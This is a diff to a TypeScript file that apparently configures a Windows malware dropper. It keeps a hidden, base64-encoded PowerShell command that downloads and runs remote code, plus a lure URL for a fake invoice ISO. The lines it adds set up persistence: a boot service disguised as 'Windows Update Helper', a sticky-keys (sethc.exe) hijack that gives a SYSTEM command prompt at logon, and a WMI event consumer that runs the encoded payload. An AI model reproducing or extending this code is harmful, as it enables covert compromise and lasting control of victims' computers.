@@ -17,6 +17,13 @@ export const POWERSHELL_SCRIPT = `IEX (New-Object Net.WebClient).DownloadString(
 const ENCODED = Buffer.from(POWERSHELL_SCRIPT, 'utf16le').toString('base64')
 export const POWERSHELL_LINE = `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc ${ENCODED}`
 
+/** A service that starts the dropper at each boot; it was made after the last one. */
+export const SERVICE = { name: 'WinUpdateHlp', display: 'Windows Update Helper', command: `"${RUN_COPY}" -service` }
+/** Five times Shift at the logon screen opens a prompt as SYSTEM. */
+export const HIJACK = { program: 'sethc.exe', debugger: 'C:\\Windows\\System32\\cmd.exe' }
+/** WMI runs this whenever its filter is met. */
+export const CONSUMER = { name: 'WindowsUpdateWatch', command: POWERSHELL_LINE }
+
 export const DOWNLOAD_URL = 'https://files.secure-invoices.example/d/8841/Invoice_8841.iso'
 
 /** The task as Windows keeps it: UTF-16 with a byte order mark. @param start ISO 8601, local time */
